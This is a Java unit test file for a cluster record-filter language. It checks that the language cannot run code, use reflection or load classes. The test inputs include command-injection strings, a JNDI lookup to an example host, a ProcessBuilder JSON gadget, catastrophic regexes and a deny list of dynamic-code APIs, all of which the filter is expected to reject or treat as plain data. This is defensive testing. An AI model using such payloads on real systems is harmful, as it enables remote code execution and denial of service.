package io.mirador.cluster.record.filter;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.net.URISyntaxException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.Stream;

import org.junit.jupiter.api.Test;

/**
 * The language evaluates nothing: no script engine, no reflection, no class loading, no names resolved at run
 * time. Checked from both ends: hostile inputs, and the compiled classes themselves.
 */
class FilterSafetyTest {

    private static FilterRecord value(String value) {
        return FilterRecord.of(0, 0, 0, null, value.getBytes(StandardCharsets.UTF_8), List.of());
    }

    @Test
    void classNamesAreNotValues() {
        assertThatThrownBy(() -> Filter.compile("value == java.lang.Runtime"))
                .isInstanceOf(FilterSyntaxException.class)
                .hasMessage("unexpected 'java' at position 9: expected a value; quote text, e.g. \"java\"");
        // Quoted, it is only text to compare with.
        Filter quoted = Filter.compile("value == \"java.lang.Runtime\"");
        assertThat(quoted.test(value("java.lang.Runtime"))).isTrue();
        assertThat(quoted.test(value("something else"))).isFalse();
    }

    @Test
    void scriptLikeInputsAreSyntaxErrors() {
        for (String hostile : new String[] {
                "Runtime.getRuntime().exec(\"touch /tmp/pwned\")",
                "java.lang.System.exit(1)",
                "T(java.lang.Runtime).getRuntime()",
                "${jndi:ldap://example.com/a}",
                "#{1+1}",
                "value == 1 + 1",
                "value == exec(\"id\")",
                "value.getClass() == 1",
                "this.value == 1",
                "load(\"x.js\")",
        }) {
            assertThatThrownBy(() -> Filter.compile(hostile)).as(hostile).isInstanceOf(FilterSyntaxException.class);
        }
    }

    @Test
    void jsonTypeHintsAreJustData() {
        Filter f = Filter.compile("value[\"@class\"] == \"java.lang.ProcessBuilder\" and value.command[0] == \"id\"");
        assertThat(f.test(value("{\"@class\":\"java.lang.ProcessBuilder\",\"command\":[\"id\"]}"))).isTrue();
        assertThat(f.test(value("[\"java.lang.ProcessBuilder\",{\"command\":[\"id\"]}]"))).isFalse();
    }

    @Test
    void catastrophicRegexIsCutOffAndCounted() {
        // JDK 9+ memoises (a+)+b, but nested .* still explodes: unguarded, this input takes over 10 s.
        Filter f = Filter.compile("value matches \"(.*a){12}b\"");
        long start = System.nanoTime();
        assertThat(f.test(value("a".repeat(30)))).isFalse();
        assertThat((System.nanoTime() - start) / 1_000_000).as("ms").isLessThan(2_000);
        assertThat(f.abandonedRegexMatches()).isEqualTo(1);
        // Alternation inside a loop recurses once per character in java.util.regex: deep input, stack overflow.
        Filter deep = Filter.compile("value matches \"^(a|b)*$\"");
        assertThat(deep.test(value("ab".repeat(200_000)))).isFalse();
        assertThat(deep.abandonedRegexMatches()).isEqualTo(1);
        // A pattern that backtracks little is not cut off, even over a megabyte.
        Filter ordinary = Filter.compile("value matches \"ne+dle\\d$\"");
        assertThat(ordinary.test(value("x".repeat(1 << 20) + "needle7"))).isTrue();
        assertThat(ordinary.abandonedRegexMatches()).isZero();
    }

    @Test
    void deeplyNestedJsonIsNotJsonRatherThanACrash() {
        String deep = "[".repeat(5_000) + "]".repeat(5_000);
        assertThat(Filter.compile("value[0] exists").test(value(deep))).isFalse();
        assertThat(Filter.compile("value startsWith \"[[\"").test(value(deep))).isTrue();
    }

    /**
     * The compiled classes of the package name no script engine, reflection or class loading API. Lambdas and
     * string concatenation legitimately reference java/lang/invoke, so that package is not banned.
     */
    @Test
    void compiledClassesReferenceNoDynamicCodeApi() throws IOException, URISyntaxException {
        Path dir = Path.of(Filter.class.getResource("Filter.class").toURI()).getParent();
        List<Path> classes;
        try (Stream<Path> files = Files.list(dir)) {
            classes = files.filter(p -> p.toString().endsWith(".class")).collect(Collectors.toList());
        }
        assertThat(classes).hasSizeGreaterThan(10);
        for (Path file : classes) {
            String constants = new String(Files.readAllBytes(file), StandardCharsets.ISO_8859_1);
            assertThat(constants).as(file.getFileName().toString())
                    .doesNotContain("javax/script", "java/lang/reflect", "ClassLoader", "forName", "newInstance",
                            "java/lang/ProcessBuilder", "DefaultTyping", "jdk/nashorn", "org/graalvm", "javax/tools")
                    .doesNotContainPattern("java/lang/Runtime(?!Exception)");
        }
    }
}
